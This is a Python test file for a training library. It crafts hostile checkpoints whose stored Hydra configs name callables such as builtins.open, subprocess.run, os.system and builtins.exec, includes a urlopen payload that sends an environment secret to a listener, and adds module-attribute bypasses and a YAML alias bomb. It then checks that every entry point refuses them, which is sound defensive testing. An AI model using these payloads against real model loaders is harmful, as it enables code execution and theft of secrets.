"""Hostile checkpoints: a genuine checkpoint with its config (or weights) altered, per config node and
technique, given to every entry point that reads one (predict, export, serve, resume). Each is refused with
one ``error:`` line before anything is built: the payload never runs (the victim file keeps its content, the
canary file is never created, the listener gets no connection, no environment variable is read) and no file
outside the output location is created or changed."""

from __future__ import annotations

import copy
import socket
import sys

import pytest
import torch
import uvicorn
import yaml
from conftest import CONF, QUIET, cli_main, make_config
from omegaconf import OmegaConf

from trainlab import model as models
from trainlab.errors import CheckpointError
from trainlab.stored_config import ALLOWED, allowed_classes, trusted_config

# Placeholders, filled in per test: the victim file (content "precious"), the canary a payload would create,
# the address of a listener that must get no connection, and an environment variable that must stay unread.
VICTIM, CANARY, LISTENER, SECRET = "VICTIM", "CANARY", "LISTENER", "TRAINLAB_CANARY_SECRET"
OPEN = {"_target_": "builtins.open", "file": VICTIM, "mode": "w"}
OPEN_TEXT = f"{{_target_: builtins.open, file: {VICTIM}, mode: w}}"
SEND = f"{{_target_: urllib.request.urlopen, url: 'http://{LISTENER}/${{oc.env:{SECRET}}}'}}"

# name: ({dotted config path: new value (None: removed)}, what the one error line says). A name is
# <node>-<technique>.
CRAFTS: dict[str, tuple[dict, str]] = {
    # plain _target_: the node replaced by code that is not a class allowed there
    "model-plain": ({"model": OPEN}, "its config names model class builtins.open"),
    "dataset-plain": ({"dataset": OPEN}, "names dataset class builtins.open"),
    "augment-plain": ({"augment": {"_target_": "pathlib.Path.touch", "self": CANARY}}, "names augment class"),
    "cv-plain": (
        {"cv": {"_target_": "subprocess.run", "args": ["touch", CANARY]}},
        "names cv class subprocess.run",
    ),
    "optimizer-plain": ({"optimizer": {"_target_": "torch.save", "obj": 1, "f": VICTIM}}, "class torch.save"),
    "scheduler-plain": (  # a function of trainlab's own
        {"scheduler": {"_target_": "trainlab.checkpoint.save", "state": {}, "path": VICTIM}},
        "names scheduler class trainlab.checkpoint.save",
    ),
    "trainer-plain": ({"trainer": {"_target_": "logging.FileHandler", "filename": CANARY}}, "logging.FileHandler"),
    "callbacks-plain": (
        {"callbacks.evil": {"_target_": "logging.FileHandler", "filename": CANARY, "mode": "w"}},
        "names callbacks.evil class logging.FileHandler",
    ),
    "model-other-nodes-class": (  # allowed for the optimizer, not for the model
        {"model": {"_target_": "torch.optim.SGD", "params": [], "lr": 1.0}},
        "names model class torch.optim.SGD",
    ),
    # nested _target_: a setting of a genuine node holds code
    "model-nested": ({"model.dropout": OPEN}, "names a class at model.dropout (builtins.open)"),
    "dataset-nested": ({"dataset.mean": [OPEN]}, "names a class at dataset.mean.0"),
    "optimizer-nested": ({"optimizer.betas": [OPEN, 0.999]}, "names a class at optimizer.betas.0"),
    "trainer-nested": ({"trainer.device": {"_target_": "os.system", "command": "touch CANARY"}}, "trainer.device"),
    "callbacks-nested": ({"callbacks.early_stopping.min_delta": OPEN}, "callbacks.early_stopping.min_delta"),
    "pruner-nested": (  # a class allowed as a callback, with other code as its pruner
        {
            "callbacks.pruning": {
                "_target_": "trainlab.sweeps.optuna_pruning.OptunaPruning",
                "storage": f"sqlite:///{CANARY}",
                "study_name": "s",
                "trial": 0,
                "pruner": {"_target_": "optuna.storages.RDBStorage", "url": f"sqlite:///{CANARY}"},
            }
        },
        "names callbacks.pruning.pruner class optuna.storages.RDBStorage",
    ),
    "paths-nested": ({"paths.data_dir": OPEN}, "names a class at paths.data_dir"),
    # interpolated _target_
    "model-interpolated-target": (
        {"model._target_": "${paths.target}", "paths.target": "builtins.exec"},
        "model._target_ is an interpolation",
    ),
    "callbacks-interpolated-target": (
        {"callbacks.early_stopping._target_": "logging.${paths.name}", "paths.name": "FileHandler"},
        "callbacks.early_stopping._target_ is an interpolation",
    ),
    # resolvers: oc.create builds a node that Hydra would instantiate, oc.env reads the environment,
    # oc.decode parses a string into one
    "model-oc.create": ({"model.dropout": f"${{oc.create:{OPEN_TEXT}}}"}, "model.dropout is an interpolation"),
    "dataset-oc.create-urlopen": ({"dataset.batch_size": f"${{oc.create:{SEND}}}"}, "dataset.batch_size is an"),
    "scheduler-oc.create-key": ({"scheduler": {f"${{oc.create:{OPEN_TEXT}}}": 1}}, "an interpolation as a key"),
    "trainer-oc.env": ({"trainer.device": "${oc.env:HOME}"}, "trainer.device is an interpolation"),
    "optimizer-oc.env": ({"optimizer.betas": [f"${{oc.env:{SECRET}}}", 0.999]}, "optimizer.betas.0 is an"),
    "cv-oc.decode": (
        {
            "cv": {
                "_target_": "trainlab.dataloader.folds.KFold",
                "folds": f"${{oc.decode:'{OPEN_TEXT}'}}",
                "fold": 0,
            }
        },
        "cv.folds is an interpolation",
    ),
    "augment-oc.decode": ({"augment.ops": f"${{oc.decode:'{{x: {OPEN_TEXT}}}'}}"}, "augment.ops is an"),
    # a target reached through the attributes of a trusted module
    "model-through-attributes": (
        {"model": {"_target_": "trainlab.model.nn.Linear", "in_features": 64, "out_features": 10}},
        "names model class trainlab.model.nn.Linear",
    ),
    "model-imported-name": ({"model": {"_target_": "trainlab.model.Path"}}, "class trainlab.model.Path"),
    "trainer-through-attributes": (
        {"trainer": {"_target_": "trainlab.checkpoint.np.f2py.subprocess.Popen", "args": ["touch", CANARY]}},
        "names trainer class trainlab.checkpoint.np.f2py.subprocess.Popen",
    ),
    "callbacks-through-attributes": (
        {"callbacks.log": {"_target_": "trainlab.callbacks.logging.FileHandler", "filename": CANARY, "mode": "w"}},
        "names callbacks.log class trainlab.callbacks.logging.FileHandler",
    ),
    "scheduler-through-attributes": (
        {"scheduler": {"_target_": "torch.optim.lr_scheduler.os.system", "command": "touch CANARY"}},
        "class torch.optim.lr_scheduler.os.system",
    ),
    # Hydra's other keys
    "model-args": ({"model": {"_target_": "trainlab.model.Linear", "_args_": [[64], 10]}}, "model has _args_"),
    "augment-args": ({"augment": {"_target_": "builtins.open", "_args_": [VICTIM, "w"]}}, "augment has _args_"),
    "callbacks-args": ({"callbacks.early_stopping._args_": [CANARY]}, "callbacks.early_stopping has _args_"),
    "trainer-recursive": ({"trainer._recursive_": False}, "trainer has _recursive_"),
    # sizes and shapes: refused on the meta device, before anything is allocated
    "model-absurd-size": ({"model.hidden_sizes": [10_000_000, 128]}, "1.weight: built (10000000, 64), stored"),
    "model-mismatched-shape": ({"model.hidden_sizes": [255, 128]}, "1.weight: built (255, 64), stored (256, 64)"),
    "model-unexpected-setting": ({"model.foo": 1}, "model.foo is not a setting of MLP"),
    "model-missing": ({"model": None}, "its config's model node names no class"),
}

# Crafts of the stored data beside the config: name: what the one error line says.
STATE_CRAFTS = {
    "input_spec-absurd-shape": "1.weight: built (256, 10000000000), stored (256, 64)",
    "weights-expanded-to-absurd-size": "claim (10000000, 64) but hold fewer values",
    "config-yaml-alias-bomb": "has a YAML alias",
}

ENTRY_POINTS = ("predict", "export", "serve", "resume")


def put(config: dict, dotted: str, value) -> None:
    """Set (``None``: remove) the value at a dotted path of nested dicts and lists."""
    *parents, last = dotted.split(".")
    node = config
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
    if value is None:
        node.pop(last)
    else:
        node[last] = value


def craft_state(genuine: dict, name: str) -> dict:
    """A copy of ``genuine`` (a checkpoint's state), altered as ``name`` says; placeholders left in."""
    state = dict(genuine)
    config = yaml.safe_load(state["config"])
    if name in CRAFTS:
        for dotted, value in CRAFTS[name][0].items():
            put(config, dotted, copy.deepcopy(value))
    elif name == "input_spec-absurd-shape":
        spec = state["input_spec"]
        state["input_spec"] = {**spec, "inputs": {**spec["inputs"], "input_shape": [1, 100_000, 100_000]}}
    elif name == "weights-expanded-to-absurd-size":  # matching shapes, 7.5 GB, in a few bytes: stride 0
        config["model"]["hidden_sizes"] = [10_000_000, 128]
        with torch.device("meta"):
            huge = models.MLP([1, 8, 8], 10, [10_000_000, 128], "ReLU", 0.1, False)
        state["model"] = {k: torch.zeros((), dtype=t.dtype).expand(t.shape) for k, t in huge.state_dict().items()}
    if name == "config-yaml-alias-bomb":  # 10^6 values once OmegaConf copies every alias
        lines = ["bomb:", "  l0: &l0 [x, x, x, x, x, x, x, x, x, x]"]
        lines += [f"  l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 6)]
        state["config"] = yaml.safe_dump(config) + "\n".join(lines) + "\n"
    else:
        state["config"] = yaml.safe_dump(config)
    return state


@pytest.fixture(scope="session")
def genuine(digits_run) -> dict:
    """The state of the default run's best.ckpt: a genuine checkpoint to alter."""
    return torch.load(digits_run[0] / "checkpoints" / "best.ckpt", weights_only=True)


@pytest.fixture
def scene(tmp_path, monkeypatch):
    """A victim file, where a canary would appear, a listener, a secret in the environment; and a guard that
    fails the test if serve.py ever got as far as starting its server."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.setblocking(False)
    monkeypatch.setenv(SECRET, "canary-secret-7f3a")

    def server_started(*args, **kwargs):
        raise AssertionError("serve.py started its server with a hostile checkpoint")

    monkeypatch.setattr(uvicorn, "run", server_started)
    yield {"dir": tmp_path, "victim": victim, "canary": tmp_path / "canary", "listener": listener}
    listener.close()


def save_crafted(state: dict, scene: dict) -> str:
    """``state`` with the placeholders filled in, saved as plain data (as a crafted file would be)."""
    host, port = scene["listener"].getsockname()
    for placeholder, value in ((VICTIM, scene["victim"]), (CANARY, scene["canary"]), (LISTENER, f"{host}:{port}")):
        state["config"] = state["config"].replace(placeholder, str(value))
    path = scene["dir"] / "crafted.ckpt"
    torch.save(state, path)
    return str(path)


def run_entry_point(entry: str, ckpt: str, folder) -> tuple[int, str]:
    if entry == "predict":
        return cli_main("predict.py", f"ckpt={ckpt}", f"input={folder / 'pictures'}", f"output={folder / 'p.csv'}")
    if entry == "export":
        return cli_main("export.py", f"ckpt={ckpt}", f"output={folder / 'm.onnx'}")
    if entry == "serve":
        return cli_main("serve.py", f"ckpt={ckpt}", "port=0")
    return cli_main("train.py", f"ckpt_path={ckpt}", f"hydra.run.dir={folder / 'run'}", QUIET)


def assert_refused_and_nothing_ran(entry: str, ckpt: str, scene: dict, complaint: str) -> None:
    folder = scene["dir"]
    (folder / "pictures").mkdir(exist_ok=True)
    before = {p: p.stat().st_mtime_ns for p in folder.rglob("*")}
    code, stderr = run_entry_point(entry, ckpt, folder)
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert code != 0 and lines and lines[-1].startswith("error: ") and complaint in lines[-1], stderr[-3000:]
    assert "Traceback" not in stderr and "canary-secret-7f3a" not in stderr
    assert scene["victim"].read_text() == "precious"
    assert not scene["canary"].exists()
    with pytest.raises(BlockingIOError):  # nothing connected to the listener
        scene["listener"].accept()
    run_dir = folder / "run"  # resume's output location: Hydra made it, the run wrote nothing in it
    after = {p: p.stat().st_mtime_ns for p in folder.rglob("*") if run_dir not in (p, *p.parents)}
    assert after == before
    assert not (run_dir / "checkpoints").exists() and not (run_dir / "tensorboard").exists()


@pytest.mark.parametrize("entry", ENTRY_POINTS)
@pytest.mark.parametrize("name", [*CRAFTS, *STATE_CRAFTS])
def test_hostile_checkpoint_is_refused_and_nothing_runs(genuine, scene, name, entry):
    complaint = CRAFTS[name][1] if name in CRAFTS else STATE_CRAFTS[name]
    ckpt = save_crafted(craft_state(genuine, name), scene)
    assert_refused_and_nothing_ran(entry, ckpt, scene, complaint)


# -- the allowlist ---------------------------------------------------------------------------------------
def stored(config: dict) -> dict:
    """A checkpoint state holding ``config`` as train.py stores it: resolved YAML text."""
    return {"config": OmegaConf.to_yaml(OmegaConf.create(config))}


def composed(*overrides: str) -> dict:
    """The resolved config train.py would store for ``override``; hparams_search=optuna with its callback's
    Hydra interpolations (which only a sweep resolves) given values."""
    if "hparams_search=optuna" not in overrides:
        return OmegaConf.to_container(make_config(*overrides), resolve=True)
    config = composed()
    callbacks = OmegaConf.to_container(OmegaConf.load(CONF / "hparams_search" / "optuna.yaml").callbacks)
    callbacks["optuna_pruning"] |= {"storage": "sqlite:///study.db", "study_name": "s", "trial": 0}
    config["callbacks"] |= callbacks
    return config


SHIPPED = [
    f"{group}={path.stem}"
    for group in ("model", "dataset", "augment", "cv", "optimizer", "scheduler")
    for path in sorted((CONF / group).glob("*.yaml"))
] + ["hparams_search=optuna"]


@pytest.mark.parametrize("override", SHIPPED)
def test_every_shipped_config_is_accepted(override):
    config = composed(override)
    assert OmegaConf.to_container(trusted_config(stored(config), "x.ckpt")) == config


# (where, dotted name): classes allowed there, some reached through a package's lazy attribute
ACCEPTED = [
    ("model", "trainlab.model.TorchvisionModel"),
    ("dataset", "trainlab.dataloader.CSVTable"),
    ("dataset", "trainlab.dataloader.image_folder.ImageFolderData"),
    ("optimizer", "torch.optim.AdamW"),
    ("scheduler", "torch.optim.lr_scheduler.ReduceLROnPlateau"),
    ("scheduler", "trainlab.schedulers.WarmupCosine"),
    ("augment.ops.erase", "trainlab.dataloader.augment.RandomErasing"),
    ("callbacks.pruning.pruner", "optuna.pruners.HyperbandPruner"),
]
# ... and names refused: other classes, functions, classes of other nodes, paths through other modules
REFUSED = [
    ("model", "torch.nn.Linear"),
    ("model", "trainlab.model.torch.nn.Linear"),
    ("model", "trainlab.model.Sequence"),
    ("model", "trainlab.model._activation"),
    ("model", "trainlab.model.MLP.__init__"),
    ("dataset", "trainlab.dataloader.csv_table.pd.read_pickle"),
    ("dataset", "trainlab.dataloader.InputSpec"),
    ("optimizer", "torch.optim.lr_scheduler.StepLR"),
    ("scheduler", "torch.optim.Adam"),
    ("trainer", "trainlab.run.Trainer"),
    ("cv", "trainlab.dataloader.folds.torch.Tensor"),
    ("callbacks.x", "trainlab.callbacks.FitContext"),
    ("callbacks.pruning.pruner", "optuna.storages.RDBStorage"),
    ("model", "this.s"),
    ("callbacks.x", "trainlab.checkpoint.np.f2py.x"),
]


def with_target(where: str, target: str) -> dict:
    config = composed()
    if where.startswith("callbacks.pruning"):
        put(config, "callbacks.pruning._target_", "trainlab.sweeps.optuna_pruning.OptunaPruning")
    put(config, f"{where}._target_", target)
    return config


@pytest.mark.parametrize(("where", "target"), ACCEPTED)
def test_allowed_classes_are_accepted(where, target):
    trusted_config(stored(with_target(where, target)), "x.ckpt")


@pytest.mark.parametrize(("where", "target"), REFUSED)
def test_other_names_are_refused_without_importing_what_they_name(where, target):
    modules_before = set(sys.modules)
    with pytest.raises(CheckpointError, match=f"names {where} class {target}, which is not"):
        trusted_config(stored(with_target(where, target)), "x.ckpt")
    assert not {"this", "numpy.f2py"} & (set(sys.modules) - modules_before)


def test_the_allowlist_holds_the_classes_of_each_node():
    """What each node allows, read back from ``ALLOWED`` once its modules are imported."""
    import trainlab.dataloader.csv_table
    import trainlab.sweeps.optuna_pruning
    import trainlab.trainer  # noqa: F401

    names = {
        key: {f"{c.__module__}.{c.__name__}" for c in allowed_classes(value)} for key, value in ALLOWED.items()
    }
    assert {"trainlab.model.MLP", "trainlab.model.CNN", "trainlab.model.ResNet"} <= names["model"]
    assert not any(name.startswith("torch.") for name in names["model"])
    assert "trainlab.dataloader.csv_table.CSVTable" in names["dataset"]
    assert "torch.optim.sgd.SGD" in names["optimizer"] and "trainlab.schedulers.WarmupCosine" in names["scheduler"]
    assert names["trainer"] == {"trainlab.trainer.Trainer"}
    assert names["cv"] == {"trainlab.dataloader.folds.KFold"}
    assert {"trainlab.callbacks.EarlyStopping", "trainlab.sweeps.optuna_pruning.OptunaPruning"} <= names[
        "callbacks.*"
    ]
    assert "optuna.pruners._hyperband.HyperbandPruner" in names["callbacks.*.pruner"]
